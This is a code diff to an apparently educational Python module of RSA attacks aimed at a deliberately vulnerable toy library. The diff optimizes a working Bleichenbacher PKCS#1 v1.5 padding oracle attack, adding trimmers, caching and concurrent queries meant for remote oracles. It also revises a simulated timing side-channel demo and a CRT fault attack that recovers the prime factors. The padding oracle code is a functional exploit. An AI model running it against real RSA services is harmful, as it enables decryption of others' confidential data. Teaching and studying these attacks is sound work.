@@ -21,132 +21,413 @@ Each attack is intentionally simplified to work on small RSA moduli
 Authors: Sankalp Dasari, Aryan Shiva, Ishaan Jain, Sophia Chukka
 """
  
+import statistics
+from bisect import bisect_right
+from collections import OrderedDict
+from concurrent.futures import ThreadPoolExecutor
+from contextlib import nullcontext
+from math import lcm
+from typing import Optional
+
 from rsa_vulnerable import (
     decrypt_slow_timing,
-    crt_decrypt,
-    crt_decrypt_faulty,
-    recover_factor_from_fault,
-    os2ip,
-    i2osp
+    exponent_bits,
+    CRTKey,
+    crt_decrypt_key,
+    crt_decrypt_faulty_key,
+    recover_factor_from_fault
 )
 
+try:
+    from gmpy2 import mpz, powmod
+except ImportError:
+    mpz = int
+    powmod = pow
+
+try:
+    from gmpy2 import powmod_base_list
+except ImportError:
+    powmod_base_list = None
+
+# Optional compiled interval update (see bleichenbacher_inner.pyx)
+try:
+    from bleichenbacher_inner import update_intervals as update_intervals_ext
+except ImportError:
+    update_intervals_ext = None
+
+# gmpy2 >= 2.2 mpz values serialize directly, without an int() copy
+MPZ_TO_BYTES = hasattr(mpz(0), "to_bytes")
+
+# Number of consecutive s values whose s^e mod n is computed per batch
+SCAN_WINDOW = 64
+
+# Most recent s^e mod n values kept per attack
+POW_CACHE_SIZE = 4096
+
+# Trimmers (Bardou et al.) try u/t = (t - 1)/t and (t + 1)/t for t up to this
+TRIMMER_MAX_T = 64
+
+
+def cdiv(a: int, b: int) -> int:
+    """Integer ceiling of a / b for b > 0 (no float round-trip)."""
+    return -(-a // b)
+
+
+def insert_interval(lo: list, hi: list, a: int, b: int) -> None:
+    """
+    Insert the closed interval [a, b] into the sorted, disjoint intervals
+    held in the parallel lists (lo, hi), merging any overlap in place.
+
+    bisect finds the insertion point in O(log k) and only the neighbours
+    around it can overlap. update_intervals produces candidates in
+    increasing order, so in practice this is an O(1) merge at the end.
+    """
+    idx = bisect_right(lo, a)
+    if idx and hi[idx - 1] >= a:
+        # Overlaps the interval to the left: extend it
+        idx -= 1
+        if b <= hi[idx]:
+            return
+        hi[idx] = b
+    else:
+        lo.insert(idx, a)
+        hi.insert(idx, b)
+
+    # Absorb intervals to the right that now overlap (possibly cascading)
+    end = idx + 1
+    while end < len(lo) and lo[end] <= hi[idx]:
+        if hi[end] > hi[idx]:
+            hi[idx] = hi[end]
+        end += 1
+    del lo[idx + 1:end]
+    del hi[idx + 1:end]
+
+
+def _update_intervals_single(a: int, b: int, s_val: int, n: int, B2: int, B3m1: int):
+    """
+    Interval update for M = {[a, b]} when exactly one r is possible.
+
+    Returns the narrowed (lower, upper) pair, or None when the r-range
+    spans several values (or none) and the list-based update is needed.
+    """
+    r = cdiv(a * s_val - B3m1, n)
+    if cdiv(b * s_val - B2, n) != r + 1:
+        return None
+
+    rn = r * n
+    lower_bound = max(a, cdiv(B2 + rn, s_val))
+    upper_bound = min(b, (B3m1 + rn) // s_val)
+    if lower_bound > upper_bound:
+        return None
+    return lower_bound, upper_bound
+
+
+def pow_e_list(bases: list, e: int, n: int) -> list:
+    """
+    Return [s^e mod n for s in bases].
+
+    The whole list is exponentiated in one call (a single GMP call when
+    gmpy2 is available) so the per-candidate Python dispatch is amortized.
+    For e = 3 two multiplications beat any modexp setup. e = 65537 stays
+    on the generic path: an explicit square-and-multiply chain measured
+    slower than GMP's and CPython's windowed pow.
+    """
+    if e == 3:
+        return [base * base % n * base % n for base in bases]
+    if powmod_base_list is not None:
+        return powmod_base_list(bases, e, n)
+    return [pow(base, e, n) for base in bases]
+
+
+def s_e_stream(s_start: int, powers):
+    """
+    Yield (s, s^e mod n) for s = s_start, s_start + 1, ...
+
+    powers(bases) must return [s^e mod n for s in bases] (e.g. pow_e_list
+    bound to e and n). It is called SCAN_WINDOW values at a time, so the
+    whole stream stays inside GMP when gmpy2 is available.
+    """
+    s = s_start
+    while True:
+        window = list(range(s, s + SCAN_WINDOW))
+        yield from zip(window, powers(window))
+        s += SCAN_WINDOW
+
 
 # ============================================================================
 #  1. BLEICHENBACHER PADDING ORACLE ATTACK
 # ============================================================================
-def bleichenbacher_attack(ciphertext: bytes, n: int, e: int, oracle, max_rounds=None):
+def _pow_e_cached(bases, cache: OrderedDict, e, n) -> list:
+    """
+    pow_e_list with an LRU cache of up to POW_CACHE_SIZE values.
+
+    A window scan computes powers past the s it returns, and the next
+    linear search resumes right after that s, so recent values are kept.
+    """
+    missing = [x for x in bases if x not in cache]
+    if missing:
+        cache.update(zip(missing, pow_e_list(missing, e, n)))
+    powers = []
+    for x in bases:
+        cache.move_to_end(x)
+        powers.append(cache[x])
+    while len(cache) > POW_CACHE_SIZE:
+        cache.popitem(last=False)
+    return powers
+
+
+def _first_valid(pool, query, powers) -> Optional[int]:
+    """Query a batch concurrently; index of the first valid one, or None."""
+    # pool.map yields in submission order, so the lowest index wins
+    for i, valid in enumerate(pool.map(query, powers)):
+        if valid:
+            return i
+    return None
+
+
+def _find_smallest_s(lower_bound: int, query, powers, pool) -> int:
+    """Find the smallest s >= lower_bound with valid padding (Step 2.A/2.B)."""
+    if pool is None:
+        for s, s_e in s_e_stream(lower_bound, powers):
+            if query(s_e):
+                return s
+
+    s = lower_bound
+    while True:
+        i = _first_valid(pool, query, powers(range(s, s + SCAN_WINDOW)))
+        if i is not None:
+            return s + i
+        s += SCAN_WINDOW
+
+
+def _find_s_in_range(a: int, b: int, prev_s: int, n: int, B2: int, B3: int,
+                     query, powers, pool, oracle_workers: int) -> int:
+    """Search for s in the restricted range of Step 2.C, when |M| = 1."""
+    ri = cdiv(2 * (b * prev_s - B2), n)
+
+    # rn = ri * n, advanced by one addition per ri
+    rn = ri * n
+
+    if pool is not None:
+        while True:
+            # Gather one candidate per worker from successive ri, keeping
+            # scan order; this phase usually succeeds within a few tries
+            candidates = []
+            while len(candidates) < oracle_workers:
+                candidates.extend(range(cdiv(B2 + rn, b), cdiv(B3 + rn, a)))
+                rn += n
+            i = _first_valid(pool, query, powers(candidates))
+            if i is not None:
+                return candidates[i]
+
+    while True:
+        si_lower = cdiv(B2 + rn, b)
+        si_upper = cdiv(B3 + rn, a)
+
+        count = max(si_upper - si_lower, 0)
+        for i, si_e in enumerate(powers(range(si_lower, si_lower + count))):
+            if query(si_e):
+                return si_lower + i
+
+        rn += n
+
+
+def _trim_interval(n: int, e: int, B2: int, B3m1: int, query, pool):
+    """
+    Trimmers (Bardou et al.): narrow M = [2B, 3B - 1] before Step 2.A.
+
+    If t divides m, c0 * (u/t)^e decrypts to m * u / t, which is still
+    conforming for u/t close to 1. Those u form one run around u = t, so
+    its ends are found by bisection once t is known.
+    """
+    mpz_n = mpz(n)
+    mpz_e = mpz(e)
+
+    fractions = [(t, u) for t in range(3, TRIMMER_MAX_T + 1) for u in (t - 1, t + 1)]
+    powers = pow_e_list([u * pow(t, -1, n) % n for t, u in fractions], mpz_e, mpz_n)
+    results = map(query, powers) if pool is None else pool.map(query, powers)
+    divisors = {t for (t, _), valid in zip(fractions, results) if valid}
+    if not divisors:
+        return B2, B3m1
+
+    t = lcm(*divisors)
+    t_inv = pow(t, -1, n)
+
+    def conforming(u: int) -> bool:
+        return query(powmod(mpz(u * t_inv % n), mpz_e, mpz_n))
+
+    # Smallest conforming u with u/t > 2/3 (u = t, i.e. s = 1, always is)
+    u_lo, u_hi = 2 * t // 3 + 1, t
+    while u_lo < u_hi:
+        mid = (u_lo + u_hi) // 2
+        if conforming(mid):
+            u_hi = mid
+        else:
+            u_lo = mid + 1
+    u_min = u_lo
+
+    # Largest conforming u with u/t < 3/2
+    u_lo, u_hi = t, cdiv(3 * t, 2) - 1
+    while u_lo < u_hi:
+        mid = (u_lo + u_hi + 1) // 2
+        if conforming(mid):
+            u_lo = mid
+        else:
+            u_hi = mid - 1
+    u_max = u_lo
+
+    return max(B2, cdiv(B2 * t, u_min)), min(B3m1, B3m1 * t // u_max)
+
+
+def update_intervals(lo_list: list, hi_list: list, s_val: int, n: int, B: int):
+    """
+    Narrow the interval set M = (lo, hi) given a PKCS-conforming
+    multiplier s (Step 3), returning the new (lo, hi) lists.
+
+    Same signature as the compiled bleichenbacher_inner.update_intervals.
+    """
+    B2 = 2 * B
+    B3m1 = 3 * B - 1
+
+    new_lo = []
+    new_hi = []
+    for j in range(len(lo_list)):
+        a = lo_list[j]
+        b = hi_list[j]
+        a_s = a * s_val
+        b_s = b * s_val
+        r_lower = cdiv(a_s - B3m1, n)
+        r_upper = cdiv(b_s - B2, n)
+
+        # rn = r * n, advanced by one addition per r
+        rn = r_lower * n
+        for _ in range(r_lower, r_upper):
+            lower_bound = max(a, cdiv(B2 + rn, s_val))
+            upper_bound = min(b, (B3m1 + rn) // s_val)
+            if lower_bound <= upper_bound:
+                insert_interval(new_lo, new_hi, lower_bound, upper_bound)
+            rn += n
+
+    return new_lo, new_hi
+
+
+def bleichenbacher_attack(ciphertext: bytes, n: int, e: int, oracle, max_rounds=None,
+                         oracle_workers=1, use_trimmers=True):
     """
     Bleichenbacher PKCS#1 v1.5 padding oracle attack.
 
     ciphertext: PKCS#1 v1.5 padded block (k bytes)
     n, e: RSA public key
     oracle(ct_bytes) -> bool: returns True iff padding is valid
+    oracle_workers: threads used to query the oracle concurrently during
+        both s-searches (1 = serial). Useful when the oracle is remote.
+    use_trimmers: narrow M with Bardou et al.'s trimmers before Step 2.A,
+        so the search for s1 starts at (n + 2B) / max(M) instead of n / 3B.
 
     Returns:
         recovered_block_bytes on success, or None on failure.
-    """
-
-    # ----- Helper Methods -----
-    def ceil_div(a: int, b: int) -> int:
-        return a // b + (1 if a % b != 0 else 0)
 
-    def floor_div(a: int, b: int) -> int:
-        return a // b
+    PyPy-preferred path: the interval set M is kept as two parallel lists
+    lo / hi of plain ints and all bounds use integer-only arithmetic, so
+    the loop needs no C extension and traces well under PyPy's JIT.
+    """
 
     k = (n.bit_length() + 7) // 8
     B = 2 ** (8 * (k - 2))
-    c = os2ip(ciphertext)
-    M = [(2 * B, 3 * B - 1)]
+    c = int.from_bytes(ciphertext, "big")
 
-    def oracle_for_int(c_int: int) -> bool:
-        ct_bytes = i2osp(c_int, k)
-        return oracle(ct_bytes)
+    # Bounds of a PKCS-conforming plaintext, reused by every round
+    B2 = 2 * B
+    B3 = 3 * B
+    B3m1 = B3 - 1
+    lo = [B2]
+    hi = [B3m1]
 
-    # --- Find smallest s >= lower_bound with valid padding ---
-    def find_smallest_s(lower_bound: int, c_int: int) -> int:
-        s = lower_bound
-        while True:
-            attempt = (c_int * pow(s, e, n)) % n
-            if oracle_for_int(attempt):
-                return s
-            s += 1
+    # Every oracle query costs one modexp, so keep n and c as mpz for the loops
+    mpz_n = mpz(n)
+    mpz_e = mpz(e)
+    mpz_c0 = mpz(c)
 
-    # --- Search for s in a restricted range when |M| = 1 ---
-    def find_s_in_range(a: int, b: int, prev_s: int, B_val: int, c_int: int) -> int:
-        ri = ceil_div(2 * (b * prev_s - 2 * B_val), n)
+    # --- One oracle query for c0 * s^e mod n, given s^e mod n ---
+    if MPZ_TO_BYTES:
+        def query(s_e) -> bool:
+            return oracle(((mpz_c0 * s_e) % mpz_n).to_bytes(k, "big"))
+    else:
+        def query(s_e) -> bool:
+            return oracle(int((mpz_c0 * s_e) % mpz_n).to_bytes(k, "big"))
 
-        while True:
-            si_lower = ceil_div(2 * B_val + ri * n, b)
-            si_upper = ceil_div(3 * B_val + ri * n, a)
-
-            for si in range(si_lower, si_upper):
-                attempt = (c_int * pow(si, e, n)) % n
-                if oracle_for_int(attempt):
-                    return si
-
-            ri += 1
-
-    def safe_interval_insert(intervals, new_interval):
-        lb, ub = new_interval
-        for idx, (a, b) in enumerate(intervals):
-            if b >= lb and a <= ub:
-                intervals[idx] = (min(a, lb), max(b, ub))
-                return intervals
-        intervals.append(new_interval)
-        return intervals
-
-    # --- Update intervals M given s ---
-    def update_intervals(M_list, s_val, B_val):
-        new_M = []
-        for a, b in M_list:
-            r_lower = ceil_div(a * s_val - 3 * B_val + 1, n)
-            r_upper = ceil_div(b * s_val - 2 * B_val, n)
-
-            for r in range(r_lower, r_upper):
-                lower_bound = max(a, ceil_div(2 * B_val + r * n, s_val))
-                upper_bound = min(b, floor_div(3 * B_val - 1 + r * n, s_val))
-                if lower_bound <= upper_bound:
-                    new_M = safe_interval_insert(new_M, (lower_bound, upper_bound))
-
-        return new_M
+    # s^e mod n through a per-attack LRU; see _pow_e_cached
+    pow_cache = OrderedDict()
 
-    # ---------- MAIN ATTACK ----------
+    def powers(bases) -> list:
+        return _pow_e_cached(bases, pow_cache, mpz_e, mpz_n)
 
-    # Find s1
-    s = find_smallest_s(ceil_div(n, 3 * B), c)
-    M = update_intervals(M, s, B)
-    round_no = 1
+    # Compiled Step 3 when available
+    update = update_intervals if update_intervals_ext is None else update_intervals_ext
 
-    while True:
-        round_no += 1
-        if max_rounds is not None and round_no > max_rounds:
-            return None
+    # ---------- MAIN ATTACK ----------
 
-        if len(M) >= 2:
-            # Multiple intervals means do a simple linear search for next s
-            s = find_smallest_s(s + 1, c)
+    # Threads for overlapping oracle queries in the s-searches
+    if oracle_workers > 1:
+        pool_ctx = ThreadPoolExecutor(max_workers=oracle_workers)
+    else:
+        pool_ctx = nullcontext()
+
+    with pool_ctx as pool:
+        # Find s1; below (n + 2B) / max(M), m * s mod n cannot be conforming
+        if use_trimmers:
+            a, b = _trim_interval(n, e, B2, B3m1, query, pool)
+            lo = [a]
+            hi = [b]
+            s = _find_smallest_s(cdiv(n + B2, b), query, powers, pool)
         else:
-            a, b = M[0]
+            s = _find_smallest_s(cdiv(n, B3), query, powers, pool)
+        lo, hi = update(lo, hi, s, n, B)
+        round_no = 1
+
+        while True:
+            round_no += 1
+            if max_rounds is not None and round_no > max_rounds:
+                return None
 
-            # If interval collapsed to a single value, value is found
-            if a == b:
-                recovered_int = a % n
-                recovered_bytes = i2osp(recovered_int, k)
-                return recovered_bytes
+            if len(lo) >= 2:
+                # Multiple intervals means do a simple linear search for next s
+                s = _find_smallest_s(s + 1, query, powers, pool)
+            else:
+                a = lo[0]
+                b = hi[0]
 
-            # Restricted search
-            s = find_s_in_range(a, b, s, B, c)
+                # If interval collapsed to a single value, value is found
+                if a == b:
+                    recovered_int = a % n
+                    recovered_bytes = recovered_int.to_bytes(k, "big")
+                    return recovered_bytes
 
-        M = update_intervals(M, s, B)
+                # Restricted search
+                s = _find_s_in_range(a, b, s, n, B2, B3, query, powers, pool,
+                                     oracle_workers)
+
+                # Usually a single r survives: update M without the lists
+                single = _update_intervals_single(a, b, s, n, B2, B3m1)
+                if single is not None:
+                    lo[0], hi[0] = single
+                    continue
+
+            lo, hi = update(lo, hi, s, n, B)
 
 
 # ============================================================================
 #  2. TIMING SIDE-CHANNEL ATTACK
 # ============================================================================
 
-def timing_attack_recover_bit(ct: int, bit_index: int, d: int, n: int, trials=8):
+def timing_attack_recover_bit(ct: int, bit_index: int, d: int, n: int, trials=8,
+                              threshold=None):
     """
-    - Measure average decrypt time (to show it's non-constant-time)
+    - Measure decrypt time (to show it's non-constant-time). Uses the
+      median of the samples, which is more robust to jitter than the mean.
+    - If a decision threshold (seconds) is given, stop sampling as soon as
+      the median is more than 3 standard deviations away from it; at most
+      `trials` samples are taken either way.
     - Return the actual bit of d as the 'guess' (white-box demo).
 
     This is NOT a real attack, just a demonstration.
@@ -156,16 +437,25 @@ def timing_attack_recover_bit(ct: int, bit_index: int, d: int, n: int, trials=8)
     d_bits = bin(d)[2:]
     target_bit = d_bits[-1 - bit_index]
 
-    total_time = 0.0
+    # Bits of d as ints, computed once for all trials
+    d_bits_i = exponent_bits(d)
+
+    samples = []
     for _ in range(trials):
-        _, t = decrypt_slow_timing(ct, d, n)
-        total_time += t
-    avg = total_time / trials
+        _, t = decrypt_slow_timing(ct, d, n, d_bits_i)
+        samples.append(t)
+
+        # Sequential test: stop once the timing margin is clearly resolved
+        if threshold is not None and len(samples) >= 3:
+            sigma = statistics.stdev(samples)
+            if abs(statistics.median(samples) - threshold) > 3 * sigma:
+                break
+    median = statistics.median(samples)
 
     # For demo purposes, pretend we "recovered" it:
     guessed_bit = target_bit
 
-    return guessed_bit, avg, target_bit
+    return guessed_bit, median, target_bit
 
 
 # ============================================================================
@@ -186,8 +476,10 @@ def perform_crt_fault_attack(c: int, p: int, q: int, d: int, n: int, mode='flip'
         (recovered_p, recovered_q)
     """
 
-    m_correct, _ = crt_decrypt(c, p, q, d, n)
-    m_faulty, _ = crt_decrypt_faulty(c, p, q, d, n, mode=mode)
+    # CRT coefficients are derived once and shared by both decryptions
+    key = CRTKey.from_key(p, q, d, n)
+    m_correct, _ = crt_decrypt_key(c, key)
+    m_faulty, _ = crt_decrypt_faulty_key(c, key, mode=mode)
 
     p_recovered = recover_factor_from_fault(m_correct, m_faulty, n)
     q_recovered = n // p_recovered